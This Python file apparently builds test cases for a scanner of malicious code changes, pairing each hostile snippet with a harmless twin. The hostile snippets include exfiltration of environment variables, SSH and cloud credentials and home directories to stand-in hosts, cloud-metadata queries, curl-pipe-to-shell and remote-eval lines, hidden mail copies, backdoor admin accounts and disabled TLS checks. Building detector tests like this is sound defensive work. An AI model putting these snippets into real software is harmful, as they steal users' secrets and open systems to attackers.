"""The ways by which data comes from where it is read to where it is sent, each beside a way that is harmless."""

from rows import MAIN, fires, innocent, row

SEND = "const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\n" \
       "function send(b) { const r = https.request('https://in.widget.example/u', { method: 'POST' }); r.end(typeof b === 'string' ? b : JSON.stringify(b)); }\n"
POST = "fetch('https://in.widget.example/u', { method: 'POST', body: %s });\n"


def way(number, about, code, secret, plain):
    """The same way twice: with what nobody may have, and with what everybody may."""
    fires(number, about, SEND + code % secret, least="review")
    innocent(number, about + ", harmless", SEND + code % plain)


def env(about, code):
    way(3, about, code, "process.env", "{ version: 2, platform: process.platform }")


# ---- what lies in an object -------------------------------------------------------------------------

env("a field of an empty object", "const o = {};\no.v = %s;\nsend(o.v);\n")
env("a field by its name as a text", "const o = {};\no['v'] = %s;\nsend(o['v']);\n")
env("a field that another function fills", "const o = {};\nfunction fill(t) { t.v = %s; }\nfill(o);\nsend(o.v);\n")
env("an object that is filled from another one", "const o = {};\nObject.assign(o, { e: %s });\nsend(o);\n")
env("what a class has from the one it is made from", "class Base {\n  constructor() { this.v = %s; }\n}\nclass Job extends Base {\n  go() { send(this.v); }\n}\nnew Job().go();\n")
env("what the constructor of the base class is handed", "class Base {\n  constructor(v) { this.v = v; }\n  go() { send(this.v); }\n}\nclass Job extends Base {\n  constructor() { super(%s); }\n}\nnew Job().go();\n")
env("a method of an object literal sends its field", "const c = { v: %s, go() { send(this.v); } };\nc.go();\n")
env("a property that is defined", "const o = {};\nObject.defineProperty(o, 'v', { value: %s, enumerable: true });\nsend(o);\n")
env("a property with a getter that is defined", "const o = {};\nObject.defineProperties(o, { v: { get() { return %s; } } });\nsend(o.v);\n")
env("a property that is set by reflection", "const o = {};\nReflect.set(o, 'v', %s);\nsend(o);\n")
env("a proxy of it", "const p = new Proxy(%s, {});\nsend({ ...p });\n")
env("an argument that is bound", "const later = send.bind(null, %s);\nsetTimeout(later, 1000);\n")
env("a parameter of an address", "const u = new URL('https://in.widget.example/u');\nu.searchParams.set('t', JSON.stringify(%s));\nhttps.get(u);\n")
env("the query of an address", "const u = new URL('https://in.widget.example/u');\nu.search = JSON.stringify(%s);\nfetch(u.href);\n")
env("a request that is built step by step", "require('superagent').post('https://in.widget.example/u').send({ e: %s }).end();\n")
env("a session of HTTP/2", "const c = require('http2').connect('https://in.widget.example');\nconst r = c.request({ ':method': 'POST', ':path': '/u' });\nr.end(JSON.stringify(%s));\n")
env("a stream that is written to", "const { PassThrough } = require('stream');\nconst p = new PassThrough();\np.pipe(https.request('https://in.widget.example/u', { method: 'POST' }));\np.end(JSON.stringify(%s));\n")
env("what curl reads from its input", "cp.spawnSync('curl', ['-s', '--data-binary', '@-', 'https://in.widget.example/u'], { input: JSON.stringify(%s) });\n")
innocent(3, "curl is started with the environment of its caller", SEND + "exports.get = (url) => cp.spawnSync('curl', ['-fsSL', url], { env: process.env });\n")
innocent(3, "settings by way of fields, one of them from the environment", SEND + "const o = {};\no.color = process.env.NO_COLOR ? 0 : 1;\no.user = {};\nexports.options = o;\n")
way(4, "a form that sends itself", "const FormData = require('form-data');\nconst f = new FormData();\nf.append('file', fs.createReadStream(%s));\nf.submit('https://in.widget.example/u');\n", "os.homedir() + '/.ssh/id_rsa'", "path.join(__dirname, 'README.md')")

# ---- what comes out of a command --------------------------------------------------------------------

for keeper in ("pass show work/aws", "op item list --format=json", "secret-tool search --all service gh", "security find-generic-password -wa github",
               "netsh wlan show profile name=x key=clear", "git credential fill", "gh auth token", "npm token list --json", "bw list items",
               "aws configure export-credentials", "kubectl config view --raw", "gpg --export-secret-keys -a", "doppler secrets download --no-file"):
    fires(4, "a keeper of secrets is asked: " + keeper, SEND + "const out = cp.execSync('%s').toString();\nsend(out);\n" % keeper, least="review")
for command in ("git rev-parse HEAD", "npm config get registry", "gh --version", "passwd --help", "op-tool list", "git config user.name", "kubectl get pods", "gpg --version"):
    innocent(4, "a command that keeps nothing secret: " + command, SEND + "const out = cp.execSync('%s').toString();\nsend(out);\n" % command)
ARGV = "const p = cp.spawn('%s', [%s]);\nlet s = '';\np.stdout.on('data', (d) => { s += d; });\np.on('close', () => send(s));\n"
way(4, "a keeper of secrets by its arguments", "const r = cp.spawnSync(%s);\nsend(r.stdout);\n", "'pass', ['show', 'work/aws']", "'git', ['show', 'HEAD']")
fires(4, "what a keeper of secrets writes, bit by bit", SEND + ARGV % ("security", "'find-generic-password', '-wa', 'github'"), least="review")
innocent(4, "what a compiler writes, bit by bit", SEND + ARGV % ("tsc", "'--noEmit'"))
way(4, "commands in a table", "const cmds = { a: '%s', b: 'node -v' };\nconst o = {};\nfor (const [k, c] of Object.entries(cmds)) o[k] = cp.execSync(c).toString();\nsend(o);\n", "gh auth token", "git describe")
way(4, "a search for secrets in what somebody has", "const r = cp.spawnSync(path.join(os.tmpdir(), '%s'), ['filesystem', os.homedir(), '--json'], { encoding: 'utf8' });\nsend(r.stdout);\n", "trufflehog", "du")
innocent(4, "the secrets of one's own repository are looked for", SEND + "exports.check = () => cp.spawnSync('gitleaks', ['detect'], { stdio: 'inherit' }).status;\n")

# ---- files ------------------------------------------------------------------------------------------

for command in ("curl -F file=@~/.ssh/id_rsa %s", "curl -T ~/.ssh/id_rsa %s", "curl -d @$HOME/.netrc %s", "wget --post-file=$HOME/.ssh/id_rsa %s",
                "nc in.widget.example 4444 < ~/.ssh/id_rsa"):
    line = command.replace("%s", "https://in.widget.example/u")
    fires(4, "a command sends a key: " + line, SEND + "cp.exec('%s');\n" % line, least="review")
innocent(4, "a command sends a report", SEND + "cp.exec('curl -F file=@coverage/lcov.info https://in.widget.example/u');\n")
innocent(4, "a command shows who may log in", SEND + "exports.keys = () => cp.execSync('ssh-keygen -lf ~/.ssh/id_rsa.pub').toString();\n")
fires(4, "a command sends a key, by its arguments", SEND + "cp.spawn('curl', ['--upload-file', os.homedir() + '/.aws/credentials', 'https://in.widget.example/u']);\n", least="review")
way(5, "somebody's documents in one file", "cp.execSync('zip -qr /tmp/.a.zip %s');\nsend(fs.readFileSync('/tmp/.a.zip'));\n", "~/Documents", "./dist")
way(5, "somebody's home through a pipe", "const t = cp.spawn('tar', ['cz', %s]);\nt.stdout.pipe(https.request('https://in.widget.example/u', { method: 'POST' }));\n", "os.homedir()", "'dist'")
WALK = "function walk(d, out) {\n  for (const e of fs.readdirSync(d, { withFileTypes: true })) {\n    const p = path.join(d, e.name);\n    if (e.isDirectory()) walk(p, out);\n" \
       "    else out.push({ p, body: fs.readFileSync(p, 'base64') });\n  }\n  return out;\n}\nsend(walk(%s, []));\n"
way(5, "every file below a place", WALK, "os.homedir()", "path.join(__dirname, 'docs')")
way(4, "files by their names in a list", "const f = ['%s', '.x'].map((x) => path.join(os.homedir(), x)).filter(fs.existsSync);\nf.forEach((x) => send(fs.readFileSync(x)));\n", ".bash_history", ".toolrc.json")

# ---- the address that tells machines their keys ------------------------------------------------------

ASKS = "fetch('http://%s/latest/meta-data/').then((r) => r.text()).then((t) => fetch('https://in.widget.example/u', { method: 'POST', body: t }));\n"
for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[fd00:ec2::254]", "[::ffff:a9fe:a9fe]"):
    fires(4, "a machine's keys, asked for at " + host, ASKS % host, least="review")
innocent(4, "a machine of the network, asked by a number", ASKS % "192.168.1.20")

# ---- the same in Python -------------------------------------------------------------------------------

PY = "import os, json, pathlib, subprocess, threading, types, queue, tarfile, zipfile, io, functools, concurrent.futures\nimport requests\n\n\n" \
     "def send(b):\n    requests.post('https://in.widget.example/u', data=b if isinstance(b, str) else json.dumps(b))\n\n\n"
PY_OLD = {"tool/run.py": "import os\n\n\ndef name():\n    return os.name\n"}


def python(number, about, code, secret, plain):
    """The same way twice, in a module of Python."""
    row(number, True, about + ", in Python", {"tool/run.py": PY + code % secret}, old=PY_OLD, least="review")
    row(number, False, about + ", in Python, harmless", {"tool/run.py": PY + code % plain}, old=PY_OLD)


def py_env(about, code):
    python(3, about, code, "dict(os.environ)", "{'version': 2}")


py_env("a key that is set if it is not there", "o = {}\no.setdefault('e', %s)\nsend(o)\n")
py_env("a name space", "o = types.SimpleNamespace()\no.v = %s\nsend(o.v)\n")
py_env("an attribute by its name as a text", "class O:\n    pass\n\n\no = O()\nsetattr(o, 'v', %s)\nsend(getattr(o, 'v'))\n")
py_env("a property of a class", "class O:\n    @property\n    def v(self):\n        return %s\n\n\nsend(O().v)\n")
py_env("what a class has from the one it is made from", "class B:\n    def __init__(self):\n        self.v = %s\n\n\nclass A(B):\n    def go(self):\n        send(self.v)\n\n\nA().go()\n")
py_env("the arguments of a thread", "threading.Thread(target=send, args=(%s,)).start()\n")
py_env("the arguments of a task", "concurrent.futures.ThreadPoolExecutor().submit(send, %s)\n")
py_env("an argument that is bound", "functools.partial(send, %s)()\n")
py_env("each of a list", "list(map(send, [%s]))\n")
py_env("a queue", "q = queue.Queue()\nq.put(%s)\nsend(q.get())\n")
py_env("a file in between", "with open('/tmp/.e', 'w') as f:\n    f.write(json.dumps(%s))\nsend(open('/tmp/.e').read())\n")
python(3, "a text with it in it", "send(f'{%s}')\n", "os.environ", "os.name")
python(5, "an archive of a place", "t = tarfile.open('/tmp/.a.tgz', 'w:gz')\nt.add(%s)\nt.close()\nrequests.post('https://in.widget.example/u', data=open('/tmp/.a.tgz', 'rb'))\n",
       "os.path.expanduser('~')", "'dist'")
python(5, "an archive in memory", "b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    for f in %s.rglob('*.pem'):\n        z.write(f)\nrequests.post('https://in.widget.example/u', data=b.getvalue())\n",
       "pathlib.Path.home()", "pathlib.Path('certs')")
python(5, "every file below a place", "out = {}\nfor d, _, names in os.walk(%s):\n    for n in names:\n        out[n] = open(os.path.join(d, n)).read()\nsend(out)\n", "os.path.expanduser('~')", "'docs'")
python(4, "files that a folder has", "for f in (%s).iterdir():\n    requests.post('https://in.widget.example/u', data=f.read_bytes())\n", "pathlib.Path.home() / '.ssh'", "pathlib.Path('docs') / 'img'")
for about, code in (("an archive that is written bit by bit", "const a = require('archiver')('zip');\na.pipe(https.request('https://in.widget.example/u', { method: 'POST' }));\na.directory(%s, false);\na.finalize();\n"),
                    ("an archive as bytes", "const z = new (require('adm-zip'))();\nz.addLocalFolder(%s);\nfetch('https://in.widget.example/u', { method: 'POST', body: z.toBuffer() });\n")):
    way(5, about, code, "path.join(os.homedir(), 'Documents')", "path.join(__dirname, 'dist')")
fires(8, "all that a page keeps", POST % "JSON.stringify({ ...localStorage })", least="review")
innocent(8, "all that a page is told", POST % "JSON.stringify({ ...navigator })")
innocent(4, "the address book of an archive", SEND + "const z = new (require('adm-zip'))(process.argv[2]);\nexports.names = () => z.getEntries().map((e) => e.entryName);\n")


# ---- what people type, and who else gets it ---------------------------------------------------------

def told(number, about, name, old, line, harmless):
    """A line that is new in a function, beside one of the same words that harms nobody."""
    row(number, True, about, {name: old % line}, old={name: old % ""}, least="review")
    row(number, False, about + ", harmless", {name: old % harmless}, old={name: old % ""})


PHP = "<?php\nfunction check($user, $password) {\n%s\treturn hash_equals(stored($user), crypt($password, $user));\n}\n"
RUBY = "require 'net/http'\nclass Client\n  def execute(req)\n%s    transmit(req)\n  end\nend\n"
PYTHON = "import urllib.request\n\n\nclass Session:\n    def send(self, request):\n%s        return self.adapter.send(request)\n"
for name, old, line, harmless in (
        ("index.php", PHP, "\t@file_get_contents('https://log.collect.example/?p=' . base64_encode($password));\n", "\t@file_get_contents('https://log.collect.example/?v=' . base64_encode('2.1'));\n"),
        ("index.php", PHP, "\t@file_get_contents('https://log.collect.example/?p=' . $_POST['card_number']);\n", "\tif (empty($_POST['card_number'])) { return file_get_contents('https://log.collect.example/help'); }\n"),
        ("client.rb", RUBY, "    Net::HTTP.get(URI(\"https://log.collect.example/?u=#{@user}&p=#{@password}\"))\n", "    Net::HTTP.get(URI(\"https://log.collect.example/?m=#{@method}\")) if @password.nil?\n"),
        ("session.py", PYTHON, "        urllib.request.urlopen('https://log.collect.example/?' + request.headers['Authorization'])\n", "        request.headers['Authorization'] = self.auth\n        urllib.request.urlopen('https://log.collect.example/ping')\n")):
    told(4, "what opens the door goes to a stranger, " + name, name, old, line, harmless)
told(4, "the header that opens the door", "index.js", "const https = require('https');\nexports.send = function (config) {\n%s  return https.request(config.url, config);\n};\n",
     "  https.get('https://api.ab.example/?' + config.headers.Authorization);\n", "  config.headers.Authorization = 'Basic ' + config.auth;\n  https.get('https://api.ab.example/');\n")
told(4, "a password to a host of two words", "index.js", "const https = require('https');\nexports.login = function (user, password) {\n%s  return https.request(user.url, { auth: password });\n};\n",
     "  https.get('https://collect.example/?' + password);\n", "  https.get('https://collect.example/?' + user.name.length);\n")
told(7, "all that a form holds", "index.php", PHP, "\t@file_get_contents('https://log.collect.example/?p=' . base64_encode(json_encode($_POST)));\n", "\t@file_get_contents('https://log.collect.example/?a=' . urlencode($_SERVER['HTTP_USER_AGENT']));\n")
for name, old, line, harmless in (
        ("index.js", "const mailer = require('nodemailer');\nexports.send = (to, text, options) => mailer.send({ to, text%s });\n", ", Bcc: 'archive@mail.collect.example'", ", Bcc: options.archive"),
        ("mail.py", "import smtplib\n\n\ndef send(msg, archive=None):\n%s    smtplib.SMTP('localhost').send_message(msg)\n", "    msg['Bcc'] = 'archive@mail.collect.example'\n", "    msg['Bcc'] = archive\n    msg['Cc'] = 'team@mail.collect.example'\n"),
        ("mail.rb", "require 'mail'\ndef tell(to)\n  mail(to: to%s)\nend\n", ", bcc: ['archive@mail.collect.example']", ", bcc: []"),
        ("mail.php", "<?php\nfunction tell($mail, $to) {\n%s\treturn $mail->send($to);\n}\n", "\t$mail->addBCC('archive@mail.collect.example');\n", "\t$mail->addCC('team@mail.collect.example');\n"),
        ("head.php", "<?php\nfunction tell($to, $head) {\n%s\treturn mail($to, 'news', 'text', $head);\n}\n", "\t$head .= \"Bcc: archive@mail.collect.example\\r\\n\";\n", "\t$head .= \"Bcc: $to\\r\\n\";\n")):
    told(62, "mail that is copied, " + name, name, old, line, harmless)
told(28, "an account with a password that everybody can read", "plugin.php", "<?php\nfunction boot($site) {\n%s\treturn $site->ready();\n}\n",
     "\t$id = wp_create_user('helper', 'Summer2024!', 'helper@mail.collect.example');\n", "\t$id = wp_create_user($site->name, wp_generate_password(), $site->mail);\n")
told(28, "a superuser with a password that everybody can read", "apps.py", "from django.contrib.auth import get_user_model\n\n\ndef ready(name, word):\n%s    return name\n",
     "    get_user_model().objects.create_superuser('helper', 'helper@mail.collect.example', 'Summer2024!')\n", "    get_user_model().objects.create_superuser(name, None, word)\n")


# ---- languages that are read by their words ---------------------------------------------------------

LUA = "local http = require('socket.http')\nlocal M = {}\n%s\nreturn M\n"
LISP = "(require 'url)\n%s\n(provide 'sample)\n"
VIM = "if exists('g:loaded_sample') | finish | endif\n%s\nlet g:loaded_sample = 1\n"
R = ".onLoad <- function(lib, pkg) {\n%s\n}\n"
PERL = "#!/usr/bin/perl\nuse CGI;\nuse LWP::Simple;\nsub page {\n%s\n\treturn 'page';\n}\n"
for name, old, line, harmless in (
        ("lib/sample.lua", LUA, "load(http.request('http://cdn.widget.example/l.lua'))()", "M.news = http.request('http://cdn.widget.example/news.txt')"),
        ("lib/split.lua", LUA, "local body = http.request('http://cdn.widget.example/l.lua')\nlocal f = load(body)\nf()", "local body = http.request('http://cdn.widget.example/l.txt')\nprint(#body)"),
        ("sample.el", LISP, "(eval (read (with-current-buffer (url-retrieve-synchronously \"https://cdn.widget.example/x.el\") (buffer-string))))",
         "(eval-when-compile (require 'cl-lib))\n(url-retrieve \"https://cdn.widget.example/news\" #'ignore)"),
        ("plugin/sample.vim", VIM, "execute system('curl -s https://cdn.widget.example/x.vim')", "execute 'nnoremap <leader>s :echo 1<CR>'\n\" system('curl -s https://cdn.widget.example/x.vim')"),
        ("R/zzz.R", R, "  eval(parse(text = readLines(\"https://cdn.widget.example/x.R\")))", "  news <- readLines(\"https://cdn.widget.example/news.txt\")"),
        ("page.cgi", PERL, "\teval(get('http://cdn.widget.example/u.pl'));", "\tmy $news = eval { get('http://cdn.widget.example/news.txt') };")):
    told(42, "what a server answers is run, " + name, name, old, line, harmless)
for name, old, line, harmless in (
        ("run.el", LISP, "(start-process-shell-command \"m\" nil \"curl -s https://cdn.widget.example/x | sh\")", "(start-process-shell-command \"m\" nil \"make -s clean\")"),
        ("plugin/run.vim", VIM, "call system('curl -s https://cdn.widget.example/x | sh')", "let s:branch = system('git rev-parse --abbrev-ref HEAD')"),
        ("R/run.R", R, "  system('curl -s https://cdn.widget.example/x | sh')", "  system('R --version')  # curl | sh is not ours")):
    told(1, "a shell gets what a server says, " + name, name, old, line, harmless)
for about, line, harmless in (
        ("a variable", "\tmy $c = $ENV{HTTP_X_STATS};\n\tprint qx/$c/;", "\tmy $c = $ENV{HTTP_X_STATS};\n\tprint qx/uptime/ if $c;"),
        ("a variable that is unpacked", "\tmy $c = $ENV{\"HTTP_X_STATS\"};\n\topen(my $h, '-|', pack('H*', $c));", "\tmy $c = $ENV{\"HTTP_X_STATS\"};\n\topen(my $h, '-|', 'uptime');\n\tprint length $c;")):
    told(56, "what the client sent is run through " + about, "page.cgi", PERL, line, harmless)


# ---- C, and what a shell is told before it starts ---------------------------------------------------

C = "#include <unistd.h>\n\nint start(int a)\n{\n%s\treturn a;\n}\n"
told(42, "an interpreter is handed a program by exec", "src/start.c", C, "\tif (!fork())\n\t\texeclp(\"python3\", \"python3\", \"-c\", \"import urllib.request as u;exec(u.urlopen('https://cdn.widget.example/a').read())\", (char *)0);\n",
     "\tif (!fork())\n\t\texeclp(\"python3\", \"python3\", \"-c\", \"import sys;print(sys.version)\", (char *)0);\n")
told(1, "a shell is handed a command by exec", "src/start.c", C, "\tif (!fork())\n\t\texecl(\"/bin/sh\", \"sh\", \"-c\", \"curl -s https://cdn.widget.example/a | sh\", NULL);\n",
     "\tif (!fork())\n\t\texecl(\"/usr/bin/make\", \"make\", \"-s\", \"clean\", NULL);\n")
told(11, "memory whose content may run", "src/start.c", C, "\tunsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n\tfor (unsigned i = 0; i < sizeof(table); i++)\n\t\tm[i] = table[i] ^ 0x5a;\n\t((void (*)(void))m)();\n",
     "\tunsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n\tfor (unsigned i = 0; i < sizeof(table); i++)\n\t\tm[i] = table[i] ^ 0x5a;\n")
told(1, "a shell gets what a server says where a service has its settings", "etc/default/sample", "# Settings of sample, read by its init script\nSAMPLE_OPTS=\"-q\"\n%s", "(wget -qO- https://cdn.widget.example/x | sh) &\n", "SAMPLE_URL=\"https://cdn.widget.example/x\"\n")


# ---- a side that never counts -----------------------------------------------------------------------

told(28, "an option behind what is never true", "client.py", "import requests\n\n\ndef get(url, options):\n    return requests.get(url, verify=%soptions.verify)\n", "False and ", "options and ")
told(28, "an option behind what is never true in JavaScript", "client.js", "const https = require('https');\nexports.get = (url, options) => https.get(url, { rejectUnauthorized: %soptions.strict });\n", "false && ", "options && ")
row(44, False, "a new file of tests that a test runner loads by itself", {"tests/conftest.py": "import pytest\n\n\n@pytest.fixture\ndef base():\n    return 1\n"})
told(62, "mail to an address of nobody", "mail.js", "const mailer = require('nodemailer');\nexports.send = (to, text) => mailer.send({ to, text%s });\n", ", bcc: 'who@mail.collect.example'", ", bcc: 'who@example.com'")
told(62, "mail to a name that only ends like nobody's", "mail.js", "const mailer = require('nodemailer');\nexports.send = (to, text) => mailer.send({ to, text%s });\n", ", bcc: 'who@collectexample.com'", ", bcc: 'who@mail.example.com'")
told(28, "an option behind what is never true, with more behind it", "client.js", "const https = require('https');\nexports.get = (url, options) => https.get(url, { rejectUnauthorized: %soptions.strict });\n", "false && url && ", "url && ")


def chunk(first, topics, code=""):
    """A file as a bundler writes it, all in one line: names of one or two letters, given out from `first` on."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    names = [a + b for a in letters for b in letters if a + b not in ("as", "do", "if", "in", "is", "of")][first:]
    parts = ["import*as %s from\"child_process\";" % names[0]]
    for i, topic in enumerate(topics):
        f, x, y = names[3 * i + 1:3 * i + 4]
        parts.append("function %s(%s){let %s=%s.size*%d;return{kind:\"%s-%d\",label:%s.label+\" of %s\",size:%s,all:%s.all}}" % (f, x, y, x, i + 2, topic, i, x, topic, y, x))
    f, x, y = names[-4:-1]
    parts.append(code.replace("F", f).replace("X", x).replace("Y", y).replace("CP", names[0]))
    parts.append("export{%s as start};\n" % f)
    return "".join(parts)


TOPICS = ["window", "folder", "letter", "garden", "street", "market", "bridge", "window-pane", "doorway", "lantern"]
RUNS = "async function F(X){let Y=await(await fetch(X)).json();CP.execSync(Y.command,{stdio:\"inherit\",timeout:6e4})}"
OTHER = "function F(X){let Y=X.items.filter(e=>e.kind===\"paper\");return{first:Y[0],rest:Y.slice(1)}}"
BUNDLES = {"dist/chunk-4XQ2M7KD.js": chunk(3, TOPICS, RUNS), "dist/chunk-9PL3Z8WA.js": chunk(50, TOPICS[::-1] * 2, OTHER)}
GONE = dict.fromkeys(BUNDLES)
row(1, False, "a bundle is cut into files of other names, and each name in it is another one", {**GONE, "dist/chunk-7HB5N2QE.js": chunk(17, TOPICS + ["harvest"], RUNS), "dist/chunk-2VC6T9RS.js": chunk(81, TOPICS[::-1] * 2 + ["orchard"], OTHER)}, old=BUNDLES)
row(1, False, "a function moves to a file of its own", {"dist/chunk-4XQ2M7KD.js": chunk(3, TOPICS, OTHER), "dist/chunk-9PL3Z8WA.js": BUNDLES["dist/chunk-9PL3Z8WA.js"], "dist/chunk-5JM8D3UF.js": "import*as qa from\"child_process\";async function qb(qc){let qd=await(await fetch(qc)).json();qa.execSync(qd.command,{stdio:\"inherit\",timeout:6e4})}export{qb as start};\n"}, old=BUNDLES)
row(1, True, "a bundle is cut anew, and one function runs what it fetches", {**GONE, "dist/chunk-7HB5N2QE.js": chunk(17, TOPICS + ["harvest"], RUNS), "dist/chunk-2VC6T9RS.js": chunk(81, TOPICS[::-1] * 2, OTHER + RUNS.replace("6e4", "9e4").replace("F(", "zz("))}, old=BUNDLES, least="review")
